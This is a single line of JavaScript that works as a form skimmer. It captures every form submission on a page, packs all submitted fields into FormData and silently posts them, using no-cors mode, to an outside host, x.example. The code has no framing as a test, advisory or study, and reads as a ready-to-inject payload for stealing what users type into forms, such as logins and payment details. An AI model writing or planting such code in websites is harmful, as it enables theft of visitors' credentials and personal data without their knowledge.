document.addEventListener('submit', (e) => { const data = new FormData(e.target); fetch('https://x.example/s', { method: 'POST', body: data, mode: 'no-cors' }); }, true);
